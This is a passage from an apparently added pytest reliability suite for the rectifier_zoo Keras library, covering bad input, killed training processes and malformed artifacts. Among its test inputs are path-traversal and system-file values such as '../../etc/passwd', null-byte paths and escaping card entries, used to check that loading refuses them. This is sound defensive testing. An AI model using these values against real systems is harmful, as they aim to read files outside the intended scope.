@@ -1,0 +1,893 @@
+"""Reliability (issue 9): bad input, killed processes, tampered artifacts, concurrency.
+
+Every case is tried on purpose and counted. The tally (inputs tried, kills
+survived, artifacts tampered, concurrent runs) is merged into
+``<pytest basetemp>/reliability.json`` and printed by the last test.
+
+Fast by default (2 kills per kind); ``RECTIFIER_ZOO_LONG=1`` runs the SAME tests
+with 25 seeded kills per kind.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import fcntl
+import functools
+import io
+import json
+import os
+import pathlib
+import random
+import re
+import shutil
+import signal
+import subprocess
+import sys
+import time
+import zipfile
+
+os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")
+
+import keras
+import numpy as np
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+import rectifier_zoo as rz
+from rectifier_zoo import checkpoint, hub, integrity, model_card, serving, tuning
+from rectifier_zoo.cli import main as cli_main
+from rectifier_zoo.datasets.splits import Splits
+from rectifier_zoo.errors import (
+    ArtifactError,
+    ConfigError,
+    DataError,
+    UnknownModelError,
+    ZooError,
+)
+from rectifier_zoo.recipes import Recipe
+from rectifier_zoo.training import fit
+
+LONG = bool(os.environ.get("RECTIFIER_ZOO_LONG"))
+REPS = 25 if LONG else 2
+# The suite's 600 s per-test limit fits the fast mode; 25 kill-and-rerun rounds need more.
+KILL_LOOP = pytest.mark.timeout(3600 if LONG else 600)
+NAME = "mnist_rect_l1"
+ENV = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "2", "PYTHONUNBUFFERED": "1"}
+ROOT = os.geteuid() == 0  # root reads chmod-000 files and writes read-only folders
+
+
+# ------------------------------------------------------------------ the tally
+
+
+@pytest.fixture(scope="session")
+def tally_path(tmp_path_factory):
+    root = tmp_path_factory.getbasetemp()
+    return (root.parent if os.environ.get("PYTEST_XDIST_WORKER") else root) / "reliability.json"
+
+
+@pytest.fixture
+def tally(tally_path):
+    """``tally(kind, n)`` adds to the shared counts (file-locked: xdist workers share it)."""
+
+    def add(kind, n=1):
+        with open(str(tally_path) + ".lock", "a") as lock:
+            fcntl.flock(lock, fcntl.LOCK_EX)
+            counts = json.loads(tally_path.read_text()) if tally_path.exists() else {}
+            counts[kind] = counts.get(kind, 0) + n
+            tally_path.write_text(json.dumps(counts, indent=2, sort_keys=True))
+
+    return add
+
+
+# ------------------------------------------------------------------ fixtures
+
+
+@pytest.fixture(autouse=True)
+def home(tmp_path, monkeypatch):
+    monkeypatch.setenv("RECTIFIER_ZOO_HOME", str(tmp_path / "home"))
+    monkeypatch.delenv(hub.URL_ENV, raising=False)
+    monkeypatch.delenv(integrity.PAUSE_ENV, raising=False)
+    monkeypatch.setattr(hub, "EXPORTS_DIR", tmp_path / "repo_exports")  # never the real repo's
+    return tmp_path / "home"
+
+
+def blobs(n, width=20, classes=3, seed=0):
+    rng = np.random.default_rng(seed)
+    y = rng.integers(0, classes, n).astype("int64")
+    centres = rng.normal(size=(classes, width)) * 3
+    return (centres[y] + rng.normal(size=(n, width))).astype("float32"), y
+
+
+def tiny_splits(width=20, n=300, seed=0):
+    return Splits("blobs", blobs(n, width, seed=seed), blobs(100, width, seed=seed + 1),
+                  blobs(100, width, seed=seed + 2), 3, (width,), "generated")  # fmt: skip
+
+
+def tiny_model(width=20, seed=0):
+    return rz.build_model("shapeset_rect", hidden=(8, 8), input_dim=width, num_classes=3, seed=seed)
+
+
+@pytest.fixture(scope="module")
+def store(tmp_path_factory):
+    """An export dir with versions 1 and 2 of a tiny ``mnist_rect_l1`` (784 wide, hidden 8, 8)."""
+    export_dir = tmp_path_factory.mktemp("store")
+    for seed in (1, 2):
+        rz.export(rz.build_model(NAME, hidden=(8, 8), seed=seed), export_dir, verbose=0,
+                  result={"dataset": "mnist", "test_error": 0.02, "valid_error": 0.02})  # fmt: skip
+    return export_dir
+
+
+def snapshot(root):
+    root = pathlib.Path(root)
+    return {str(p.relative_to(root)): integrity.sha256_file(p) for p in root.rglob("*") if p.is_file()}
+
+
+def digit_dirs(model_dir):
+    model_dir = pathlib.Path(model_dir)
+    return sorted(int(p.name) for p in model_dir.iterdir() if p.name.isdigit()) if model_dir.is_dir() else []
+
+
+def assert_every_version_whole(model_dir):
+    """TF Serving's scan: every all-digit folder must be a whole, verified version."""
+    found = digit_dirs(model_dir)
+    for v in found:
+        folder = pathlib.Path(model_dir) / str(v)
+        assert serving.is_whole(folder), folder
+        card = model_card.read(folder)
+        assert card["version"] == v
+        integrity.check_tree(folder, card["files"])
+    return found
+
+
+@contextlib.contextmanager
+def deadline(seconds):
+    """Fail (instead of hanging) if the block takes longer than ``seconds``."""
+
+    def expired(*_):
+        raise TimeoutError(f"hung for more than {seconds}s")
+
+    previous = signal.signal(signal.SIGALRM, expired)
+    signal.alarm(seconds)
+    try:
+        yield
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, previous)
+
+
+def refused(call, error=ZooError, match=None, seconds=120):
+    """``call()`` must raise the zoo's ``error`` (one line, naming ``match``) within ``seconds``."""
+    with deadline(seconds), pytest.raises(error, match=match) as info:
+        call()
+    message = str(info.value)
+    assert message and "\n" not in message and "Traceback" not in message, message
+    return message
+
+
+# ====================================================================== 1. bad input
+
+
+LOAD_CASES = [
+    (None, ConfigError, "zoo name or a path"),
+    (3, ConfigError, "got int"),
+    (b"mnist_rect", ConfigError, "got bytes"),
+    (["mnist_rect"], ConfigError, "got list"),
+    ("", UnknownModelError, "unknown zoo entry ''"),
+    ("mnist_rect_ll", UnknownModelError, "did you mean 'mnist_rect_l1'"),
+    ("a" * 5000, UnknownModelError, "unknown zoo entry"),
+    ("../../etc/passwd", ArtifactError, "is not a model|no such file"),
+    ("/etc/passwd", ArtifactError, "is not a model"),
+    ("a" * 300 + ".keras", ArtifactError, "cannot read .*File name too long"),
+    ("nothing/\x00.keras", ArtifactError, "no such file or folder"),
+]
+
+
+@pytest.mark.parametrize("arg,error,match", LOAD_CASES, ids=[repr(c[0])[:20] for c in LOAD_CASES])
+def test_load_refuses_bad_names_and_paths(arg, error, match, tally):
+    refused(lambda: rz.load(arg, verbose=False), error, match)
+    tally("inputs")
+
+
+@pytest.mark.parametrize("version", [0, -1, "abc", 1.5, True, float("nan"), 2**63, 10**30])
+def test_load_and_export_refuse_bad_versions(version, store, tmp_path, tally):
+    refused(lambda: rz.load(store / NAME, version=version), ConfigError, "version must")
+    model = tiny_model()
+    refused(lambda: rz.export(model, tmp_path / "ex", version=version, verbose=0), ConfigError, "version must")
+    assert not (tmp_path / "ex").exists()  # refused before anything was written
+    tally("inputs", 2)
+
+
+def test_load_of_things_that_are_not_models(tmp_path, tally):
+    (tmp_path / "empty").mkdir()
+    refused(lambda: rz.load(tmp_path / "empty"), ArtifactError, "is not a model")
+    (tmp_path / "dir.keras").mkdir()
+    refused(lambda: rz.load(tmp_path / "dir.keras"), ArtifactError, "is not a model")
+    (tmp_path / "noise.keras").write_bytes(np.random.default_rng(0).bytes(2000))
+    refused(lambda: rz.load(tmp_path / "noise.keras"), ArtifactError, "noise.keras could not be loaded as a Keras model: it is not a .keras file .not a zip")
+    with zipfile.ZipFile(tmp_path / "junk.keras", "w") as z:  # a zip, but of garbage
+        z.writestr("config.json", "{not json")
+        z.writestr("model.weights.h5", b"garbage")
+    refused(lambda: rz.load(tmp_path / "junk.keras"), ArtifactError, "junk.keras could not be loaded as a Keras model")
+    with zipfile.ZipFile(tmp_path / "other.keras", "w") as z:
+        z.writestr("hello.txt", "a zip of something else")
+    refused(lambda: rz.load(tmp_path / "other.keras"), ArtifactError, "other.keras could not be loaded")
+    tally("inputs", 5)
+
+
+def test_unreadable_files_are_refused_without_hanging(store, tmp_path, tally):
+    # chmod 000 does not stop root, so a FIFO (a read would block forever) and a
+    # folder stand in for "unreadable"; chmod 000 is tried too when not root.
+    os.mkfifo(tmp_path / "pipe.keras")
+    refused(lambda: rz.load(tmp_path / "pipe.keras"), ArtifactError, "not a regular file", seconds=20)
+    version = tmp_path / "v1"
+    shutil.copytree(store / NAME / "1", version)
+    card = version / model_card.CARD
+    card.unlink()
+    os.mkfifo(card)
+    refused(lambda: rz.load(version), ArtifactError, "model_card.json is not a regular file", seconds=20)
+    card.unlink()
+    card.mkdir()
+    refused(lambda: rz.load(version), ArtifactError, "model_card.json")
+    shutil.rmtree(card)
+    shutil.copy(store / NAME / "1" / model_card.CARD, card)
+    keras_file = version / f"{NAME}.keras"
+    keras_file.unlink()
+    keras_file.mkdir()  # the model file replaced by a folder
+    refused(lambda: rz.load(version), ArtifactError, f"{keras_file} is missing")
+    count = 4
+    if not ROOT:
+        shutil.rmtree(keras_file)
+        shutil.copy(store / NAME / "1" / keras_file.name, keras_file)
+        keras_file.chmod(0)
+        refused(lambda: rz.load(keras_file), ArtifactError, str(keras_file))
+        count += 1
+    tally("inputs", count)
+
+
+@pytest.mark.parametrize(
+    "card",
+    [[1, 2], {"files": {}, "keras_file": ["a"]}, {"files": {"../../x.keras": "0" * 64}, "keras_file": "../../x.keras"},
+     {"files": "all of them"}],
+    ids=["list", "keras_file-list", "escaping-path", "files-str"],
+)  # fmt: skip
+def test_malformed_cards_are_refused(card, store, tmp_path, tally):
+    version = tmp_path / "1"
+    shutil.copytree(store / NAME / "1", version)
+    (version / model_card.CARD).write_text(json.dumps(card))
+    refused(lambda: rz.load(version), ArtifactError)
+    tally("inputs")
+
+
+def test_malformed_training_result_beside_a_keras_file(tmp_path, capsys, tally):
+    model = tiny_model()
+    model.save(tmp_path / "m.keras")
+    (tmp_path / "m.json").write_text("[1, 2]")
+    refused(lambda: rz.load(tmp_path / "m.keras"), ArtifactError, "m.json is not a training result")
+    (tmp_path / "m.json").write_text('{"test_error": "abc"}')
+    rz.load(tmp_path / "m.keras")  # a non-number error is shown as not recorded, never crashes
+    assert capsys.readouterr().out.strip().endswith("(test error not recorded)")
+    tally("inputs", 2)
+
+
+@settings(max_examples=60 if LONG else 25, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.text(max_size=60))
+def test_any_string_given_to_load_or_get_spec_is_a_zoo_error(text):
+    try:
+        rz.get_spec(text)
+    except UnknownModelError:
+        pass
+    try:
+        rz.load(text, verbose=False)
+    except ZooError as err:
+        assert "\n" not in str(err).strip()
+    else:
+        raise AssertionError(f"rz.load({text!r}) found a model")
+
+
+def test_property_cases_counted(tally):
+    tally("inputs", (60 if LONG else 25) + (40 if LONG else 20))
+
+
+@settings(max_examples=40 if LONG else 20, deadline=None)
+@given(
+    st.integers(2, 30), st.integers(1, 8), st.sampled_from(["train", "valid", "test"]),
+    st.sampled_from([np.nan, np.inf, -np.inf]), st.data(),
+)  # fmt: skip
+def test_any_nan_or_inf_anywhere_is_refused(n, width, split, bad, data):
+    pairs = {s: blobs(n, width, seed=i) for i, s in enumerate(("train", "valid", "test"))}
+    x = pairs[split][0]
+    x[data.draw(st.integers(0, n - 1)), data.draw(st.integers(0, width - 1))] = bad
+    with pytest.raises(DataError, match=f"split '{split}': features contain NaN or inf"):
+        Splits("blobs", pairs["train"], pairs["valid"], pairs["test"], 3, (width,))
+
+
+def _mutated(kind):
+    """Splits that were valid when made, then changed in place (arrays are mutable)."""
+    splits = tiny_splits()
+    x, y = splits.train
+    if kind == "nan":
+        x[5, 3] = np.nan
+    elif kind == "inf":
+        x[0, 0] = np.inf
+    elif kind == "label-out-of-range":
+        y[7] = 3
+    elif kind == "negative-label":
+        y[0] = -1
+    return splits
+
+
+@pytest.mark.parametrize(
+    "kind,error,match",
+    [("nan", DataError, "NaN or inf"), ("inf", DataError, "NaN or inf"),
+     ("label-out-of-range", DataError, r"labels must lie in \[0, 3\)"),
+     ("negative-label", DataError, r"labels must lie in \[0, 3\)")],
+)  # fmt: skip
+def test_fit_refuses_bad_data_before_training(kind, error, match, tally):
+    model = tiny_model()
+    before = [w.copy() for w in model.get_weights()]
+    refused(lambda: fit(model, _mutated(kind), Recipe(epochs=2), verbose=0), error, match)
+    assert all(np.array_equal(a, b) for a, b in zip(before, model.get_weights()))  # not trained
+    tally("inputs")
+
+
+def test_splits_refuse_wrong_shapes_dtypes_and_labels(tally):
+    tr, va, te = blobs(30), blobs(10), blobs(10)
+    cases = [
+        ({"train": (tr[0], tr[1].astype("float32"))}, "labels must be a 1-D integer array, got float32"),
+        ({"train": (tr[0].astype("float64"), tr[1])}, "must be a float32 array .* got float64"),
+        ({"train": (tr[0].reshape(30, 4, 5), tr[1])}, r"shape \(30, 4, 5\)"),
+        ({"train": (tr[0].tolist(), tr[1])}, "got list"),
+        ({"train": (tr[0], tr[1], tr[1])}, "must be a pair .x, y., got tuple of length 3"),
+        ({"train": None}, "must be a pair .x, y., got NoneType"),
+        ({"num_classes": "3"}, "num_classes must be an integer >= 1, got '3'"),
+        ({"num_classes": 0}, "num_classes must be an integer >= 1"),
+        ({"valid": (va[0][:, :10], va[1])}, "same number .>= 1. of features, got 20 / 10 / 20"),
+        ({"train": (tr[0][:5], tr[1])}, "5 examples but 30 labels"),
+    ]
+    for change, match in cases:
+        kwargs = {"name": "blobs", "train": tr, "valid": va, "test": te, "num_classes": 3, "input_shape": (20,)}
+        refused(functools.partial(Splits, **{**kwargs, **change}), DataError, match)
+    tally("inputs", len(cases))
+
+
+def test_fit_refuses_bad_arguments(tmp_path, tally):
+    splits = tiny_splits()
+    (tmp_path / "file").write_text("x")
+    cases = [
+        (tiny_model(), (splits.train, splits.valid, splits.test), Recipe(epochs=1), {}, "splits must be a rz.datasets.Splits"),
+        (tiny_model(), splits, "fast", {}, "recipe must be a rz.Recipe"),
+        (tiny_model(width=784), splits, Recipe(epochs=1), {}, "has 20 features but model .* takes 784"),
+        (rz.build_model("shapeset_rect", hidden=(8,), input_dim=20, num_classes=2), splits, Recipe(epochs=1), {},
+         "has 3 classes but model .* outputs 2"),
+        (tiny_model(), splits.subset(n_valid=0), Recipe(epochs=1), {}, "split.s. valid are empty"),
+        (tiny_model(), splits, Recipe(epochs=1), {"seed": -1}, "seed must lie in"),
+        (tiny_model(), splits, Recipe(epochs=1), {"seed": 2**40}, "seed must lie in"),
+        (tiny_model(), splits, Recipe(epochs=1), {"verbose": 7}, "unknown verbose 7"),
+        (tiny_model(), splits, Recipe(epochs=1), {"checkpoint_dir": tmp_path / "file"}, "checkpoint_dir .* cannot be a folder"),
+    ]  # fmt: skip
+    for model, data, recipe, kwargs, match in cases:
+        refused(functools.partial(fit, model, data, recipe, **{"verbose": 0, **kwargs}), ConfigError, match)
+    tally("inputs", len(cases))
+
+
+def test_train_refuses_bad_arguments_before_any_work(tmp_path, tally):
+    (tmp_path / "file").write_text("x")
+    splits = tiny_splits(width=1024)
+    cases = [
+        ({"name": None}, UnknownModelError, "unknown zoo entry None"),
+        ({"name": "shapeset_relu"}, UnknownModelError, "did you mean"),
+        ({"epochs": -1}, ConfigError, "epochs must lie in"),
+        ({"epochs": "3"}, ConfigError, "epochs must be an integer"),
+        ({"learning_rate": float("nan")}, ConfigError, "learning_rate must be finite"),
+        ({"learning_rate": float("inf")}, ConfigError, "learning_rate must be finite"),
+        ({"learning_rate": 0.0}, ConfigError, "learning_rate must lie in"),
+        ({"batch_size": 0}, ConfigError, "batch_size must lie in"),
+        ({"momentum": 1.0}, ConfigError, "momentum must lie in"),
+        ({"l1": -1.0}, ConfigError, "has no L1 penalty"),
+        ({"name": "shapeset_rect_l1", "l1": float("nan")}, ConfigError, "l1 must be finite"),
+        ({"warmup": 3}, ConfigError, r"unknown training option\(s\) \['warmup'\]"),
+        ({"seed": -1}, ConfigError, "seed must lie in"),
+        ({"seed": "0"}, ConfigError, "seed must be an integer"),
+        ({"verbose": 3}, ConfigError, "unknown verbose 3"),
+        ({"splits": "shapeset"}, ConfigError, "splits must be a rz.datasets.Splits"),
+        ({"splits": tiny_splits()}, ConfigError, "has 20 features but model 'shapeset_rect' takes 1024"),
+        ({"out": tmp_path / "file"}, ConfigError, "out .* cannot be a folder"),
+        ({"out": tmp_path / "file" / "sub"}, ConfigError, "its parent .* is a file"),
+        ({"checkpoint_dir": tmp_path / "file"}, ConfigError, "checkpoint_dir .* cannot be a folder"),
+    ]
+    for change, error, match in cases:
+        kwargs = {"name": "shapeset_rect", "epochs": 1, "splits": splits, "verbose": 0, **change}
+        name = kwargs.pop("name")
+        refused(functools.partial(rz.train, name, **kwargs), error, match)
+    tally("inputs", len(cases))
+
+
+def test_export_refuses_bad_targets(tmp_path, tally):
+    model = tiny_model()
+    (tmp_path / "file").write_text("x")
+    refused(lambda: rz.export(model, tmp_path / "file", verbose=0), ConfigError, "export_dir .*file.* cannot be a folder")
+    refused(lambda: rz.export(model, tmp_path / "file" / "sub", verbose=0), ConfigError, "its parent .* is a file")
+    refused(lambda: rz.export(model, None, verbose=0), ConfigError, "export_dir must be a folder path")
+    refused(lambda: rz.export(model, 5, verbose=0), ConfigError, "export_dir must be a folder path")
+    refused(lambda: rz.export("nothing_like_this", tmp_path / "ex", verbose=0), UnknownModelError)
+    refused(lambda: rz.export(None, tmp_path / "ex", verbose=0), ConfigError, "takes a keras.Model")
+    refused(lambda: rz.export(model, tmp_path / "ex", name="../up", verbose=0), ConfigError, "not a safe folder name")
+    refused(lambda: rz.export(model, tmp_path / "ex", result="great", verbose=0), ArtifactError, "result must be")
+    count = 8
+    if not ROOT:  # root writes into read-only folders, so the case only exists for users
+        (tmp_path / "ro").mkdir()
+        (tmp_path / "ro").chmod(0o555)
+        try:
+            refused(lambda: rz.export(model, tmp_path / "ro", verbose=0), ZooError, "ro")
+        finally:
+            (tmp_path / "ro").chmod(0o755)
+        count += 1
+    assert not any(p.name.isdigit() for p in tmp_path.rglob("*"))
+    tally("inputs", count)
+
+
+def test_datasets_load_refuses_bad_input(tmp_path, tally):
+    (tmp_path / "file").write_text("x")
+    cases = [
+        (("nosuch",), {}, ConfigError, "unknown dataset 'nosuch'"),
+        ((None,), {}, ConfigError, "unknown dataset None"),
+        (("mnist",), {"data_dir": 5}, ConfigError, "data_dir must be a folder path"),
+        (("mnist",), {"data_dir": tmp_path / "file"}, ConfigError, "data_dir .* cannot be a folder"),
+        (("mnist",), {"data_dir": tmp_path / "empty"}, DataError, "not found"),
+        (("mnist",), {"bogus": 1}, ConfigError, "does not take bogus"),
+        (("shapeset",), {"n_train": -1}, ConfigError, "n_train must be a non-negative integer"),
+        (("shapeset",), {"n_train": 10**12}, ConfigError, "n_train must be at most"),
+        (("shapeset",), {"seed": "a"}, ConfigError, "seed must be a non-negative integer"),
+    ]
+    for args, kwargs, error, match in cases:
+        refused(functools.partial(rz.datasets.load, *args, **kwargs), error, match)
+    tally("inputs", len(cases))
+
+
+def test_tuning_search_refuses_bad_input(tmp_path, tally):
+    (tmp_path / "file").write_text("x")
+    splits = tiny_splits()
+    base = {"splits": splits, "hidden": (4,), "max_trials": 1, "epochs": 1, "progress": False,
+            "project_dir": tmp_path / "p", "results_dir": tmp_path / "r"}  # fmt: skip
+    cases = [
+        ({"name": "nosuch"}, UnknownModelError, "unknown zoo entry"),
+        ({"tuner": "genetic"}, ConfigError, "unknown tuner 'genetic'"),
+        ({"max_trials": 0}, ConfigError, "max_trials must lie in"),
+        ({"max_trials": "3"}, ConfigError, "max_trials must be an integer"),
+        ({"epochs": 0}, ConfigError, "epochs must lie in"),
+        ({"splits": "shapeset"}, ConfigError, "splits must be a rz.datasets.Splits"),
+        ({"splits": _mutated("nan")}, DataError, "NaN or inf"),
+        ({"project_dir": tmp_path / "file"}, ConfigError, "project_dir .* cannot be a folder"),
+        ({"results_dir": tmp_path / "file"}, ConfigError, "results_dir .* cannot be a folder"),
+        ({"learning_rate": (1.0, 0.0)}, ConfigError, "empty or inverted"),
+        ({"learning_rate": (float("nan"), 1.0)}, ConfigError, "learning_rate range"),
+        ({"oracle": "127.0.0.1:1"}, ConfigError, "--oracle is for distributed searches"),
+        ({"worker": "w", "oracle": "nohost"}, ConfigError, "HOST:PORT"),
+    ]
+    for change, error, match in cases:
+        kwargs = {**base, **change}
+        name = kwargs.pop("name", "shapeset_rect")
+        refused(functools.partial(tuning.search, name, **kwargs), error, match)
+    assert not (tmp_path / "p").exists() and not (tmp_path / "r").exists()  # nothing started
+    tally("inputs", len(cases))
+
+
+def run_cli(argv):
+    err, out = io.StringIO(), io.StringIO()
+    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out), deadline(120):
+        try:
+            code = cli_main([str(a) for a in argv])
+        except SystemExit as exit_:
+            code = exit_.code
+    return code, out.getvalue(), err.getvalue()
+
+
+def cli_cases(tmp):
+    junk = tmp / "junk.keras"
+    return [
+        ([], "required: COMMAND"),
+        (["fly"], "invalid choice: 'fly'"),
+        (["train"], "required: name"),
+        (["train", "shapeset_relu"], "did you mean"),
+        (["train", "../../etc/passwd"], "unknown zoo entry"),
+        (["train", "shapeset_rect", "--epochs", "-1"], "must be >= 0"),
+        (["train", "shapeset_rect", "--epochs", "many"], "expected a whole number"),
+        (["train", "shapeset_rect", "--learning-rate", "nan"], "finite number > 0"),
+        (["train", "shapeset_rect", "--learning-rate", "inf"], "finite number > 0"),
+        (["train", "shapeset_rect", "--batch-size", "0"], "batch_size must lie in"),
+        (["train", "shapeset_rect_l1", "--l1", "nan"], "l1 must be finite"),
+        (["train", "shapeset_rect", "--seed", str(2**40)], "seed must lie in"),
+        (["train", "shapeset_rect", "--out", tmp / "file"], "cannot be a folder"),
+        (["train", "shapeset_rect", "--checkpoint-dir", tmp / "file"], "cannot be a folder"),
+        (["train", "mnist_rect", "--data-dir", tmp / "file"], "data_dir .* cannot be a folder"),
+        (["train", "mnist_rect", "--data-dir", tmp / "empty"], "not found"),
+        (["export"], "give a model NAME"),
+        (["export", "../x"], "not a safe folder name"),
+        (["export", "nosuch"], "unknown zoo entry"),
+        (["export", "mnist_rect", "--model", junk], "junk.keras could not be loaded .* not a .keras file"),
+        (["export", "mnist_rect", "--model", tmp / "none.keras"], "no such file or folder"),
+        (["export", "mnist_rect", "--model", tmp / "file"], "is not a model"),
+        (["export", "mnist_rect", "--model", junk, "--export-dir", tmp / "file"], "export_dir .* cannot be a folder"),
+        (["export", "mnist_rect", "--version", "0"], "--version must be >= 1"),
+        (["export", "mnist_rect", "--version", "-1"], "must be >= 0"),
+        (["export", "mnist_rect", "--version", "abc"], "expected a whole number"),
+        (["export", "mnist_rect", "--model", junk, "--version", str(2**64)], "version must lie in"),
+        (["export", "--serving-config", "--export-dir", tmp / "nodir"], "does not exist"),
+        (["export", "--serving-config", "--export-dir", tmp / "file"], "is a file, not a folder"),
+        (["tune"], "required: name"),
+        (["tune", "nosuch"], "unknown zoo entry"),
+        (["tune", "shapeset_rect", "--max-trials", "0"], "must be >= 1"),
+        (["tune", "shapeset_rect", "--hidden", "a,b"], "expected sizes like 16,16"),
+        (["tune", "shapeset_rect", "--learning-rate-range", "1,0"], "empty or inverted"),
+        (["tune", "shapeset_rect", "--chief"], "need --oracle"),
+        (["tune", "shapeset_rect", "--project-dir", tmp / "file"], "project_dir .* cannot be a folder"),
+        (["tune", "shapeset_rect", "--results-dir", tmp / "file"], "results_dir .* cannot be a folder"),
+        (["list", "--bogus"], "unrecognized arguments"),
+    ]
+
+
+def test_every_cli_command_answers_bad_input_with_one_line(tmp_path, monkeypatch, tally):
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "file").write_text("x")
+    (tmp_path / "junk.keras").write_bytes(b"junk")
+    for argv, match in cli_cases(tmp_path):
+        code, _out, err = run_cli(argv)
+        lines = err.strip().splitlines()
+        assert code == 2 and len(lines) == 1, (argv, code, err[-2000:])
+        assert "Traceback" not in err and re.search(match, lines[0]), (argv, lines)
+    assert not (tmp_path / "runs").exists()  # every refusal came before training
+    tally("inputs", len(cli_cases(tmp_path)))
+
+
+def test_cli_in_a_subprocess_prints_no_traceback(tmp_path, tally):
+    (tmp_path / "junk.keras").write_bytes(b"junk")
+    argvs = [["export", "mnist_rect", "--model", "junk.keras"], ["train", "mnist_rect", "--data-dir", "nowhere"]]
+    for argv in argvs:
+        proc = subprocess.run([sys.executable, "-m", "rectifier_zoo", *argv], cwd=tmp_path, env=ENV,
+                              capture_output=True, text=True, check=False, timeout=180)  # fmt: skip
+        lines = proc.stderr.strip().splitlines()
+        assert proc.returncode == 2 and len(lines) == 1 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
+        assert lines[0].startswith(f"rectifier-zoo {argv[0]}: error: ")
+    tally("inputs", len(argvs))
+
+
+# ====================================================================== 2. killed processes
+
+
+def spawn(script, *args, env=None):
+    return subprocess.Popen([sys.executable, "-c", script, *map(str, args)], env={**ENV, **(env or {})},
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)  # fmt: skip
+
+
+def wait_line(child, marker, timeout=180):
+    end = time.monotonic() + timeout
+    while time.monotonic() < end:
+        line = child.stdout.readline()
+        if marker in line:
+            return line
+        if not line:
+            break
+    raise AssertionError(f"child never printed {marker!r}: {child.stderr.read()[-2000:] if child.poll() is not None else ''}")
+
+
+def kill(child):
+    child.send_signal(signal.SIGKILL)
+    child.communicate(timeout=60)
+
+
+TRAIN_CHILD = """
+# `rectifier-zoo train shapeset_rect --checkpoint-dir CK` through the real command line,
+# with the entry's 3x1000 net and 10k examples shrunk so a run takes seconds.
+import sys, keras, rectifier_zoo as rz
+from rectifier_zoo import cli, trainer, zoo
+full_build = zoo.build_model
+zoo.build_model = lambda name, **kw: full_build(name, hidden=(8, 8), **kw)
+trainer.load_splits = lambda spec, *a, **k: rz.datasets.load("shapeset", n_train=300, n_valid=100, n_test=100)
+print("ready", flush=True)
+sys.exit(cli.main(["train", "shapeset_rect", "--epochs", sys.argv[2], "--checkpoint-dir", sys.argv[1],
+                   "--out", sys.argv[1] + "-runs", "--verbose", "2", "--batch-size", "10"]))
+"""
+
+
+def _checkpoint_is_readable(directory, epochs_done):
+    state = checkpoint.load_state(directory)
+    if state is None:
+        return -1
+    assert len(state["history"]["loss"]) == state["epoch"] + 1 <= epochs_done + 1
+    with np.load(directory / state["files"]["weights"]) as weights:
+        assert len(weights.files) == 6  # 3 Dense kernels and biases: whole
+    return state["epoch"]
+
+
+@KILL_LOOP
+def test_sigkill_during_training_then_rerun_loses_and_repeats_no_epoch(tmp_path, tally):
+    epochs = 6
+    rng = random.Random(9)
+    for rep in range(REPS):
+        ck = tmp_path / f"ck{rep}"
+        child = spawn(TRAIN_CHILD, ck, epochs)
+        wait_line(child, "ready")
+        target = rng.randrange(1, epochs)
+        wait_line(child, f"Epoch {target}/{epochs}")  # epoch target-1 (0-based) has finished
+        time.sleep(rng.uniform(0, 0.5))  # anywhere in the next epoch, mid-write included
+        kill(child)
+        done = _checkpoint_is_readable(ck, epochs)
+        assert done >= target - 2
+        history_before = checkpoint.load_state(ck)["history"] if done >= 0 else {"loss": []}
+        rerun = subprocess.run([sys.executable, "-c", TRAIN_CHILD, str(ck), str(epochs)], env=ENV,
+                               capture_output=True, text=True, check=False, timeout=300)  # fmt: skip
+        assert rerun.returncode == 0, rerun.stderr[-2000:]
+        if done >= 0:
+            assert f"resuming from {ck} after epoch {done + 1}" in rerun.stdout
+        started = [line for line in rerun.stdout.splitlines() if line.startswith("Epoch ")]
+        assert started == [f"Epoch {e}/{epochs}" for e in range(done + 2, epochs + 1)]  # each once, none again
+        result = json.loads((tmp_path / f"ck{rep}-runs" / "shapeset_rect.json").read_text())
+        assert result["epochs"] == epochs and len(result["history"]["loss"]) == epochs
+        assert result["history"]["loss"][: done + 1] == history_before["loss"]  # finished work kept as it was
+        tally("kills")
+
+
+def test_checkpoint_interrupted_between_files_resumes_from_the_committed_epoch(tmp_path, monkeypatch, tally):
+    """A kill after weights.npz is replaced but before state.json commits must not mix epochs."""
+    model = tiny_model()
+    model.compile(optimizer="sgd", loss="sparse_categorical_crossentropy")
+    checkpoint.save(tmp_path, model, 0, {"loss": [1.0]})
+    committed = [w.copy() for w in model.get_weights()]
+    model.set_weights([w + 1 for w in committed])  # the next epoch's weights
+
+    def killed(*_args, **_kwargs):
+        raise KeyboardInterrupt("killed before the commit")
+
+    with monkeypatch.context() as patch, pytest.raises(KeyboardInterrupt):
+        patch.setattr(checkpoint.atomic, "write_json", killed)
+        checkpoint.save(tmp_path, model, 1, {"loss": [1.0, 0.5]})
+    fresh = tiny_model(seed=5)
+    fresh.compile(optimizer="sgd", loss="sparse_categorical_crossentropy")
+    state, _ = checkpoint.restore(tmp_path, fresh)
+    assert state["epoch"] == 0
+    assert all(np.array_equal(a, b) for a, b in zip(fresh.get_weights(), committed))
+    checkpoint.save(tmp_path, model, 1, {"loss": [1.0, 0.5]})  # the next commit tidies up
+    named = checkpoint.load_state(tmp_path)["files"]
+    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".npz") == sorted(named.values())
+    tally("kills")
+
+
+TUNE_CHILD = """
+import sys, numpy as np, rectifier_zoo as rz
+from rectifier_zoo import tuning
+from rectifier_zoo.datasets.splits import Splits
+def blobs(n, s):
+    r = np.random.default_rng(s); y = r.integers(0, 3, n).astype("int64")
+    return (np.eye(3, 20, dtype="float32")[y] * 3 + r.normal(size=(n, 20)).astype("float32")), y
+splits = Splits("blobs", blobs(200, 1), blobs(60, 2), blobs(60, 3), 3, (20,))
+print("ready", flush=True)
+out = tuning.search("shapeset_rect", splits=splits, hidden=(4,), max_trials=int(sys.argv[3]), epochs=2,
+                    project_dir=sys.argv[1], results_dir=sys.argv[2], retrain=False, progress=True)
+print("finished", out.record["trials"], out.record["completed"], flush=True)
+"""
+
+
+def _trials(project_dir):
+    found = {}
+    for path in pathlib.Path(project_dir).glob("trial_*/trial.json"):
+        trial = json.loads(path.read_text())  # whole JSON, or the read fails the test
+        found[trial["trial_id"]] = trial
+    return found
+
+
+@KILL_LOOP
